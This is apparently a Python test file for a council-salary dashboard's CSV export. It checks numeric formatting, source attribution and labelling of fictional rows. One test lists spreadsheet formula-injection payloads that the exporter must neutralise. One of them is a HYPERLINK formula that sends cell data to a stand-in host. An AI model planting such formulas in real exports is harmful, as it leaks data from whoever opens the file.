"""The pages' CSV downloads: numbers as numbers, labels for codes, sources named, no formula that runs."""

from __future__ import annotations

import csv
import io

import polars as pl

from councildocs.dashboard.downloads import csv_bytes
from councildocs.warehouse.privacy import FORMULA_TRIGGERS
from councildocs.warehouse import queries


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


def test_the_salary_csv_of_the_default_warehouse(real_db):
    rows = queries.salary_benchmark(real_db).rows
    table = rows.select("nice_name", "role", "role_category", "min_gbp", "max_gbp", "period", "year", "source",
                        "publisher", "published", "source_url", "licence", "fact_id").with_columns(fictional=False)
    written = _rows(csv_bytes(table))
    assert len(written) == rows.height
    manchester = next(r for r in written if r["min_gbp"] == "135976.0")
    assert float(manchester["max_gbp"]) == 155898  # a number, not "£135,976–£155,898"
    assert manchester["role_category"] == "Director of Children's Services" and manchester["period"] == "Per year"
    assert manchester["published_by"].startswith("Manchester City Council")
    assert manchester["source_url"].startswith("https://")


def test_cells_a_spreadsheet_would_run_are_made_inert():
    payloads = ['=HYPERLINK("http://x.example/?"&A1,"Open")', "@SUM(A1:A9)", "+1+1", "-2+3", "\tcmd", "\rcmd"]
    frame = pl.DataFrame({"role": payloads, "min_gbp": [-5.0] * len(payloads)})
    written = _rows(csv_bytes(frame))
    assert [r["role"] for r in written] == ["'" + p for p in payloads]
    assert not any(r["role"].startswith(FORMULA_TRIGGERS) for r in written)
    assert {r["min_gbp"] for r in written} == {"-5.0"}  # numbers are left alone


def test_fictional_rows_say_so():
    frame = pl.DataFrame({"publisher": ["councildocs project (fictional example)", "Leeds City Council"],
                          "published": [None, "2025"], "fictional": [True, False], "source": ["a.pdf", "b.txt"]})
    assert [r["published_by"] for r in _rows(csv_bytes(frame))] == [
        "Fictional example (written by councildocs)", "Leeds City Council, 2025"]
